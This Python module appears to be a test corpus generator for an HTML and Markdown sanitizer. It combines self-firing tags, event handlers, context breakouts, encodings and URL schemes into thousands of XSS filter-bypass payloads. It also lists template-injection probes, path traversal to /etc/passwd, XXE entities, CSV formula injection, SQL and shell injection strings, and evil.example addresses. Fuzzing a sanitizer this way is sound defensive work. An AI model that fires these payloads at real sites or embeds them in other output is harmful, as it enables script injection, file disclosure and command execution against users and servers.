"""Payloads composed by a grammar: tags, handlers, addresses and syntax, in encodings and contexts that have fooled filters.

Each calls `alert` where it runs, so that a browser can count; none was taken from a list.
"""

from __future__ import annotations

import base64
from collections.abc import Callable, Iterator
from itertools import cycle, product
from typing import Final
from urllib.parse import quote

CALLS: Final = (
    "alert(1)",
    "alert`1`",
    "top['al'+'ert'](1)",
    "(alert)(1)",
    "window.alert(1)",
    "\\u0061lert(1)",
    "alert&#40;1&#41;",
)
# An element, how its handler fires by itself, and what it needs for it.
SELF_FIRING: Final = (
    ("img", "onerror", "src=x"), ("img", "onload", "src=data:image/gif;base64,R0lGODlhAQABAAAAACw="),
    ("svg", "onload", ""), ("body", "onload", ""), ("body", "onpageshow", ""), ("body", "onfocus", ""),
    ("input", "onfocus", "autofocus"), ("select", "onfocus", "autofocus"), ("textarea", "onfocus", "autofocus"),
    ("button", "onfocus", "autofocus"), ("a", "onfocus", "href=# autofocus"), ("div", "onfocus", "tabindex=0 autofocus"),
    ("video", "onerror", "src=x"), ("video", "onloadstart", "src=x"), ("audio", "onerror", "src=x"),
    ("source", "onerror", "src=x"), ("iframe", "onload", "src=about:blank"), ("iframe", "onload", "srcdoc=x"),
    ("embed", "onload", "src=x"), ("object", "onerror", "data=x"), ("link", "onerror", "rel=stylesheet href=x"),
    ("style", "onload", ""), ("script", "onerror", "src=x"), ("details", "ontoggle", "open"),
    ("marquee", "onstart", ""), ("track", "onerror", "src=x"), ("image", "onerror", "src=x"),
    ("p", "onanimationstart", "style=animation:x"), ("x", "ontransitionend", "style=transition:1s"),
    ("form", "onsubmit", ""), ("dialog", "onclose", "open"), ("math", "onfocus", "tabindex=0 autofocus"),
    ("audio", "oncanplay", "src=x"), ("picture", "onerror", ""), ("frameset", "onload", ""), ("svg", "onbegin", ""),
)  # fmt: skip
HANDLERS: Final = (
    "onclick", "onmouseover", "onmouseenter", "onpointerenter", "oncopy", "oncut", "onpaste", "ondrag", "onkeydown",
    "onwheel", "onscroll", "onauxclick", "onbeforeinput", "oncontextmenu", "onselectstart", "ontouchstart",
    "onbeforetoggle", "onscrollend", "onsecuritypolicyviolation", "onslotchange",
)  # fmt: skip
INERT: Final = (
    "a",
    "b",
    "p",
    "div",
    "span",
    "table",
    "td",
    "bdi",
    "em",
    "strong",
    "code",
    "blockquote",
    "h1",
    "time",
    "mark",
    "x-y",
)
SPACES: Final = (" ", "/", "\t", "\x0c", " / ", "  ")
QUOTES: Final = ("", '"', "'", "`")
# What ends the place in which a page, a feed, JSON or Markdown may have put a text.
BREAKOUTS: Final = (
    "", '">', "'>", "`>", "-->", "]]>", "</title>", "</script>", "</style>", "</textarea>", "</p>", "</bdi>", "</h1>",
    "</time>", "</noscript>", "</template>", "</svg>", "</math>", "</select>", "</a>", "</main></body>", "<!--", "<![CDATA[",
    "<!DOCTYPE x [", "<?x ", '"}</script>', '\\"}', "\\u003c/script\\u003e", "&quot;&gt;", "&lt;/script&gt;", "> ", "```\n", "~~~",
    "</content>", "]]></content:encoded>", "\u2028", "*/", "})", "${", "<%",
)  # fmt: skip
ADDRESSES: Final = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java&#9;script:alert(1)", "java&Tab;script:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "&#106;avascript:alert(1)",
    "\x01javascript:alert(1)", " javascript:alert(1)", "javascript://%0aalert(1)", "javascript:/*--></title>*/alert(1)",
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "vbscript:alert(1)", "livescript:alert(1)", "mocha:alert(1)", "view-source:x",
    "file:///etc/passwd", "blob:alert(1)", "filesystem:x", "//evil.example/x.js", "\\\\evil.example\\x", "https:evil.example",
    "https://user:pass@evil.example/", "http://evil.example\\@good.example/", "jav\u0430script:alert(1)", "%6aavascript:alert(1)",
    "feed:javascript:alert(1)", "jar:javascript:alert(1)!/", "about:blank", "intent:alert(1)", "ms-its:x", "#\"onfocus=alert(1) x=",
)  # fmt: skip
LINKS: Final = (
    "[x]({})", "[x](<{}>)", "[x]({} 'title')", '[x]({} "onmouseover=alert(1)")', "![x]({})", "<{}>", "[x]: {}", "[x][{}]",
    "<a href=\"{}\">x</a>", "<a href={}>x</a>", "<iframe src=\"{}\">", "<object data=\"{}\">", "<embed src=\"{}\">",
    "<form action=\"{}\"><button>", "<button formaction=\"{}\">x", "<svg><a xlink:href=\"{}\"><text>x", "<math href=\"{}\">x",
    "<meta http-equiv=refresh content=\"0;url={}\">", "<base href=\"{}\">", "<link rel=import href=\"{}\">",
    "<svg><use href=\"{}\"/>", "<svg><animate attributeName=href values=\"{}\"/>", "<area href=\"{}\">", "<body background=\"{}\">",
    "<img src=\"{}\">", "<img srcset=\"{} 1x\">", "<video poster=\"{}\">", "<script src=\"{}\"></script>",
    "<style>@import '{}';</style>", "<div style=\"background:url({})\">",
)  # fmt: skip
# Trees that a browser builds otherwise than many parsers.
CONFUSIONS: Final = (
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>", "<table><td><svg/onload=alert(1)>",
    "<select><option><script>alert(1)</script></select>", "<template><script>alert(1)</script></template>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "<title><img src=x onerror=alert(1)></title>", "<textarea></textarea><img src=x onerror=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script>", "<svg><script xlink:href=data:,alert(1) />", "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)>",
    "<style></style\t><img src=x onerror=alert(1)>", "<script>/*<!--<script>*/alert(1)</script>", "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>", "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?><img src=x onerror=alert(1)>",
    "</ ><img src=x onerror=alert(1)>", "<a<img src=x onerror=alert(1)>", "<<script>alert(1)//<</script>", "<img src=x:x onerror=alert(1)//",
    "<img\x00src=x onerror=alert(1)>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\">",
    "<div id=x tabindex=0 onfocus=alert(1) autofocus>", "<input type=image src=x onerror=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<object type=text/html data=data:text/html,<script>alert(1)</script>>", "<frameset onload=alert(1)>", "<marquee onstart=alert(1)>",
)  # fmt: skip
SYNTAX: Final = (
    "*x*{: onclick=alert(1) }", "{: #x .y onload=alert(1)}", "# x {: onclick=alert(1) }", "<div markdown=\"1\" onclick=alert(1)>*x*</div>",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "*[x]: <script>alert(1)</script>", "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "`</code><script>alert(1)</script>`", "~~~html\n<script>alert(1)</script>\n~~~", "    <script>alert(1)</script>", "1. <script>alert(1)</script>",
    "> <script>alert(1)</script>", "- [ ] <script>alert(1)</script>", "\\<script>alert(1)\\</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&#0000060script&#0000062alert(1)", "\x02klzzwxh:0000\x03", "wzxhzdk:0", "<!-- p1 src=00000000 -->", "<!-- p1 -->", "**Note:** x",
    "{{ 7*7 }}", "{{ config }}", "{% raw %}", "{% include '../x' %}", "{%- for x in ().__class__.__base__.__subclasses__() -%}", "{# x #}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "<#assign x=7>", "*{7*7}", "@(7*7)", "%(x)s %s %d {0}",
    "{attach}../../pelicanconf.py", "{static}/../../x", "{filename}../../x", "{include}x", "|filename|x", "{category}x", "{author}x", "{tag}x", "{index}",
    "[x]({attach}../../pelicanconf.py)", "![x]({static}../x)", "../../../../etc/passwd", "..%2f..%2f", "c:\\windows\\x", "file.html\x00.png",
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\x1b[2J\x1b]0;x\x07", "\x9b31m", "$(alert 1)", "`alert 1`", "; alert 1", "| alert 1",
    "' OR 1=1 --", "\"; DROP TABLE x", "<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<!DOCTYPE x [<!ENTITY a \"b\">]>&a;", "<?xml-stylesheet href=\"x\"?>",
    "<xsl:value-of select=\"x\"/>", "]]><script>alert(1)</script><![CDATA[", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba", "\u2039script\u203aalert(1)", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "%253Cscript%253E", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)",
    "---\ntitle: gone\n---", "title: gone", "<div dir=rtl style=position:fixed;inset:0>", "\u202egnp.exe", "a\u0300\u0301\u0302\u0303" * 30, "\ufdfd" * 40,
)  # fmt: skip


def _upper(text: str) -> str:
    return "".join(c.upper() if no % 2 else c for no, c in enumerate(text))


def _decimal(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _unclosed(text: str) -> str:
    return text.rstrip(">")


def _data(text: str) -> str:
    return f'<iframe src="data:text/html;base64,{base64.b64encode(text.encode()).decode()}">'


ENCODINGS: Final[tuple[Callable[[str], str], ...]] = (
    str, _upper, _decimal, quote, _unclosed, _data,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\\x3c"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "<\x00"),
    lambda text: text.replace("&", "&amp;").replace("<", "&amp;lt;"),
)  # fmt: skip


def _elements() -> Iterator[str]:
    """Give an element with a handler, its parts joined in turn in every way."""
    spaces, quotes, calls = cycle(SPACES), cycle(QUOTES), cycle(CALLS)
    for tag, handler, needs in SELF_FIRING:
        for _ in range(4):
            space, mark = next(spaces), next(quotes)
            yield f"<{tag}{space}{needs}{space if needs else ''}{handler}={mark}{next(calls)}{mark}>"
    for tag, handler in product(INERT, HANDLERS):
        space, mark = next(spaces), next(quotes)
        yield f"<{tag}{space}{handler}={mark}{next(calls)}{mark}>x</{tag}>"
    for call in CALLS:
        yield f"<script>{call}</script>"
        yield f"<script{next(spaces)}src=data:,{call}></script>"


def payloads() -> tuple[str, ...]:
    """List every payload once, in a fixed order."""
    plain = (*_elements(), *CONFUSIONS)
    firing = [one for one in plain if "<img" in one or "<script" in one or "<svg" in one][:40]
    found = [
        *plain,
        *(f"{breakout}{payload}" for breakout, payload in product(BREAKOUTS, firing[:12])),
        *(encode(payload) for encode, payload in product(ENCODINGS, firing[:24])),
        *(form.format(target) for form, target in product(LINKS, ADDRESSES)),
        *(f"x{mark} {handler}={mark}alert(1)" for mark, handler in product(('"', "'", "`", "&quot;"), HANDLERS)),
        *SYNTAX,
    ]
    return tuple(dict.fromkeys(found))
